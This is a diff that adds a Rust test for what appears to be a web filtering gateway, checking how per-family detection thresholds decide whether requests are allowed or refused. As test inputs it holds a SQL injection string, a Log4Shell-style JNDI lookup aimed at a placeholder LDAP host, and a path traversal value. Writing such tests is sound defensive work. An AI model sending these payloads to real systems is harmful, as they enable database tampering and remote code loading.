@@ -90,3 +90,20 @@ fn what_cannot_be_judged_is_refused_for_a_reason_of_its_own() {
     let body = serde_json::json!({ "text": text.repeat(10_000) }).to_string();
     assert_eq!(post(&guarded(&upstream, ""), "application/json", &body).status, 200);
 }
+
+#[test]
+fn a_family_may_refuse_from_another_score_on() {
+    let upstream = Upstream::start();
+    let sql = "/?id=1%27%20or%20%271%27=%271";
+    let gateway = guarded(&upstream, ", thresholds: { families: { sql: 1000, xpath: 1000 } }");
+    assert_eq!(get(&gateway, sql, "").status, 200);
+    assert_eq!(get(&gateway, "/?x=$%7Bjndi:ldap://x.example/a%7D", "").status, 403);
+    assert_eq!(get(&guarded(&upstream, ""), "/?a=b/../c", "").status, 200);
+    let strict = guarded(&upstream, ", thresholds: { families: { traversal: 3 } }");
+    assert_eq!(get(&strict, "/?a=b/../c", "").status, 403);
+    for (keys, expected) in [("{ sqli: 4 }", "did you mean `sql`?"), ("{ sql: 0 }", "refuses everything")] {
+        let scan = format!("{{ thresholds: {{ families: {keys} }} }}");
+        let output = setup().refuse(&plain(&upstream.url()).policy("scan", scan).text()).stderr;
+        assert!(output.contains(expected), "{output}");
+    }
+}
